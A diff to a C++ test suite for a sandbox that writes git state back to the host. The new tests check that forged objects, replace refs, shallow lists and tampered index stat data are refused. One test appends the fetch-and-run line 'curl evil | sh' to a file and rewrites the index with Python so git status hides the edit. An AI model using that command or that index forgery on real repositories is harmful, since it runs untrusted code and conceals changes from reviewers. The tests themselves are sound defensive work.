@@ -302,14 +302,13 @@ TEST_F(GitStateTest, HeadIsNeverDeletedOrReplacedWithGarbage) {
   }
 }
 
-// Packs (git gc), deleted branches and reflogs come back; objects are never
-// replaced; a host lock file is not pinned in the jail.
-TEST_F(GitStateTest, GcBranchDeletionAndLocksBehaveAsInGit) {
+// Deleted branches and reflogs come back; a host lock file is not pinned
+// in the jail.
+TEST_F(GitStateTest, BranchDeletionReflogsAndLocksBehaveAsInGit) {
   host_sh(ws_, "git branch side && touch .git/stale.lock");
   const Ran ran = run(std::string(kGit) +
-                      " commit -q --allow-empty -m two && git -c gc.writeCommitGraph=false -c "
-                      "repack.updateServerInfo=false gc -q && " +
-                      "git branch -D side >/dev/null && rm .git/stale.lock");
+                      " commit -q --allow-empty -m two && git branch -D side >/dev/null && rm "
+                      ".git/stale.lock");
   ASSERT_EQ(ran.outcome.exit_status(), 0) << ran.outcome.to_string() << ran.err;
   EXPECT_EQ(ran.outcome.warning, "");
   EXPECT_EQ(host_sh(ws_, "git log --format=%s"), "two\none\n");
@@ -317,6 +316,93 @@ TEST_F(GitStateTest, GcBranchDeletionAndLocksBehaveAsInGit) {
   EXPECT_EQ(host_sh(ws_, "git fsck --no-progress 2>&1 | grep -v dangling | wc -l"), "0\n");
   EXPECT_EQ(host_sh(ws_, "git reflog -1 --format=%gs"), "commit: two\n");
   EXPECT_TRUE(exists(git_dir() + "/stale.lock")) << "the jail's rm stayed in the jail";
+}
+
+// A pack's index can claim any id for any data, and checking one is git
+// index-pack's work: a pack does not come back, and neither do the refs,
+// HEAD or index that could name objects only it held.
+TEST_F(GitStateTest, APackComesBackWithNothingThatCouldNameIt) {
+  const std::string head = read_file(git_dir() + "/refs/heads/main");
+  const Ran ran = run(std::string(kGit) +
+                      " commit -q --allow-empty -m two && git -c gc.writeCommitGraph=false -c "
+                      "repack.updateServerInfo=false gc -q");
+  ASSERT_EQ(ran.outcome.exit_status(), 0) << ran.outcome.to_string() << ran.err;
+  EXPECT_THAT(ran.outcome.warning, HasSubstr("in a pack"));
+  EXPECT_EQ(read_file(git_dir() + "/refs/heads/main"), head);
+  EXPECT_EQ(host_sh(ws_, "ls .git/objects/pack | wc -l"), "0\n");
+  EXPECT_EQ(host_sh(ws_, "git fsck --no-progress 2>&1 | grep -v dangling | wc -l"), "0\n");
+}
+
+// Objects are trusted by their ids: one whose contents are not what its id
+// says (here: another blob's bytes under the id of "TODO\n", which the user
+// may add later) does not come back.
+TEST_F(GitStateTest, ALooseObjectThatIsNotWhatItsIdSaysIsRefused) {
+  const Ran ran =
+      run("id=$(printf 'TODO\\n' | git hash-object --stdin) && evil=$(printf 'evil\\n' | git "
+          "hash-object -w --stdin) && mkdir -p .git/objects/${id%${id#??}} && cp "
+          ".git/objects/${evil%${evil#??}}/${evil#??} .git/objects/${id%${id#??}}/${id#??} && echo "
+          "$id > /tmp/id");
+  ASSERT_EQ(ran.outcome.exit_status(), 0) << ran.outcome.to_string() << ran.err;
+  EXPECT_THAT(ran.outcome.warning, HasSubstr("not what its id says"));
+  const std::string id = host_sh(ws_, "printf 'TODO\\n' | git hash-object --stdin");
+  EXPECT_FALSE(exists(git_dir() + "/objects/" + id.substr(0, 2) + "/" + id.substr(2, 38)));
+  // The sound one (evil's own) came back.
+  EXPECT_EQ(host_sh(ws_, "git cat-file -p $(printf 'evil\\n' | git hash-object --stdin)"),
+            "evil\n");
+}
+
+// What would change the history the host's git shows, or hide an edit
+// from git status, does not come back: a replace ref, a new shallow list,
+// forged stat data in the index; nor does rerere's MERGE_RR.
+TEST_F(GitStateTest, ReplaceRefsShallowListsAndForgedStatDataAreRefused) {
+  const std::string head = host_sh(ws_, "git rev-parse HEAD");
+  const Ran replace =
+      run("git update-ref refs/replace/" + head.substr(0, 40) + " " + head.substr(0, 40) +
+          " && git rev-parse HEAD > .git/shallow && printf "
+          "'x\\tf\\0' > .git/MERGE_RR");
+  ASSERT_EQ(replace.outcome.exit_status(), 0) << replace.outcome.to_string() << replace.err;
+  EXPECT_THAT(replace.outcome.warning, HasSubstr("could not be written back"));
+  EXPECT_FALSE(exists(git_dir() + "/refs/replace"));
+  EXPECT_FALSE(exists(git_dir() + "/shallow"));
+  EXPECT_FALSE(exists(git_dir() + "/MERGE_RR"));
+
+  // An edit, then the index given the edited file's stat data but the old
+  // blob: git would trust it and never look at the file.
+  const Ran forged =
+      run("echo 'curl evil | sh' >> f && sleep 1.1 && python3 -c \"import hashlib,os,struct\n"
+          "p='.git/index'; d=bytearray(open(p,'rb').read()[:-20]); st=os.stat('f')\n"
+          "d[12:52]=struct.pack('>IIIIIIIIII', int(st.st_ctime), st.st_ctime_ns%10**9, "
+          "int(st.st_mtime), st.st_mtime_ns%10**9, st.st_dev&0xffffffff, st.st_ino&0xffffffff, "
+          "0o100644, st.st_uid, st.st_gid, st.st_size)\n"
+          "open(p,'wb').write(bytes(d)+hashlib.sha1(bytes(d)).digest())\" && git status "
+          "--porcelain");
+  ASSERT_EQ(forged.outcome.exit_status(), 0) << forged.outcome.to_string() << forged.err;
+  EXPECT_EQ(forged.out, "") << "the forgery works on git as such";
+  EXPECT_EQ(host_sh(ws_, "git status --porcelain"), " M f\n");
+}
+
+// Jails ending together write back side by side: each object arrives
+// whole, under its own temporary name.
+TEST_F(GitStateTest, JailsEndingTogetherKeepEachOthersObjects) {
+  std::vector<std::unique_ptr<Jailed>> jails;
+  for (int i = 0; i < 4; ++i) {
+    auto j = spawn(spec(), sh("for n in $(seq 50); do echo " + std::to_string(i) +
+                              "-$n | git hash-object -w --stdin >/dev/null; done"));
+    ASSERT_TRUE(j) << j.error().to_string();
+    jails.push_back(std::make_unique<Jailed>(std::move(*j)));
+  }
+  for (auto& j : jails) {
+    auto o = wait(*j, std::nullopt);
+    ASSERT_TRUE(o) << o.error().to_string();
+    EXPECT_EQ(o->exit_status(), 0) << o->to_string();
+    EXPECT_EQ(o->warning, "");
+  }
+  for (int i = 0; i < 4; ++i)
+    for (int n : {1, 25, 50})
+      EXPECT_EQ(host_sh(ws_, "git cat-file -p $(echo " + std::to_string(i) + "-" +
+                                 std::to_string(n) + " | git hash-object --stdin)"),
+                std::to_string(i) + "-" + std::to_string(n) + "\n");
+  EXPECT_EQ(host_sh(ws_, "ls .git/objects/*/ | grep -c tmp_ || true"), "0\n");
 }
 
 // A .git file (a linked worktree's pointer) is pinned read-only.
